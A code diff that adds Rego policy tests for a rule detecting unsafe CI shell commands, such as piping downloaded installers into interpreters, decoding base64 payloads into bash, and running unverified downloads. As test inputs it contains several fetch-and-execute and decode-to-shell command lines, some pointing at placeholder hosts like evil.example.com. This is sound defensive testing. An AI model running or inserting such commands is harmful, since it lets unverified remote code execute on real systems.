@@ -153,3 +153,71 @@ test_every_default_pattern_has_hints if {
 		hints.needles(patterns, rule.pattern_hints) != null
 	}
 }
+
+test_php_installer_fails if {
+	evidence_of([
+		"echo \"--- Installing Composer\"\nif [ ! -f composer.phar ]; then\n  curl -sS https://getcomposer.org/installer | php > /dev/null\nfi",
+		"curl -sS https://getcomposer.org/installer | php -- --install-dir=/usr/local/bin --filename=composer",
+	]) == {
+		"curl -sS https://getcomposer.org/installer | php",
+		"curl -sS https://getcomposer.org/installer | php -- --install-dir=/usr/local/bin --filename=composer",
+	}
+}
+
+test_base64_to_shell_fails if {
+	findings := rule.deny with input as cmd(["echo \"$$PAYLOAD\" | base64 -d | bash", "echo aGk= | base64 --decode > out.txt"])
+	{f.evidence | some f in findings} == {"base64 -d | bash"}
+	some f in findings
+	startswith(f.message, "an encoded script is decoded from base64 and piped into a shell")
+}
+
+test_comment_lines_pass if {
+	count(evidence_of(["# curl https://evil.example.com | sh\nmake", "  # wget -qO- https://x.example.com | bash"])) == 0
+}
+
+test_download_chmod_run_fails if {
+	findings := rule.deny with input as cmd([
+		"curl -fsSL https://github.com/acme/tool/releases/latest/download/tool-linux -o tool && chmod +x tool && ./tool --version",
+		"SOPS_BIN=/cache/sops\ncurl -fsSL \"https://github.com/getsops/sops/releases/download/v3/sops.linux.amd64\" -o \"$$SOPS_BIN\"\nchmod +x \"$$SOPS_BIN\"\nexport T=$$(\"$$SOPS_BIN\" decrypt secrets.yaml)",
+	])
+	{[f.path[3], f.evidence] | some f in findings} == {
+		[0, "curl -fsSL https://github.com/acme/tool/releases/latest/download/tool-linux -o tool"],
+		[1, "curl -fsSL \"https://github.com/getsops/sops/releases/download/v3/sops.linux.amd64\" -o \"$$SOPS_BIN\""],
+	}
+	some f in findings
+	f.path[3] == 0
+	contains(f.message, "saved as `tool` and made executable and run without verification")
+}
+
+test_download_across_command_lines_and_remote_name if {
+	findings := rule.deny with input as cmd([
+		"wget -q -O /usr/local/bin/jq https://github.com/jqlang/jq/releases/latest/download/jq-linux-amd64",
+		"sudo chmod 0755 /usr/local/bin/jq",
+		"curl -LO https://dl.example.com/v1/installer.run",
+		"chmod a+x installer.run; sudo ./installer.run",
+		"sudo /usr/local/bin/jq --version",
+	])
+	{f.path[3] | some f in findings} == {0, 2}
+}
+
+test_download_verified_or_not_run_passes if {
+	count(evidence_of([
+		"curl -fsSLo tool https://x.example.com/tool && echo \"$$SUM  tool\" | sha256sum -c - && chmod +x tool && ./tool",
+		"curl -fsSLo data.bin https://x.example.com/data.bin && chmod 644 data.bin && ./run.sh data.bin",
+		"curl -fsSL -o /dev/null -w '%{http_code}' https://x.example.com && chmod +x run.sh && ./run.sh",
+		"curl -fsSLo plugin https://x.example.com/plugin && chmod +x plugin && mv plugin ~/.terraform.d/",
+	])) == 0
+}
+
+test_download_then_interpreter_fails if {
+	findings := rule.deny with input as cmd([
+		"curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh",
+		"wget -O get-pip.py https://bootstrap.pypa.io/get-pip.py\npython3 get-pip.py --user",
+		"curl -sSLo env.sh https://x.example.com/env.sh; bash -x ./env.sh",
+		"curl -fsSLo data.json https://x.example.com/data.json && python3 parse.py data.json",
+	])
+	{f.path[3] | some f in findings} == {0, 1, 2}
+	some f in findings
+	f.path[3] == 0
+	contains(f.message, "saved as `get-docker.sh` and run by an interpreter")
+}
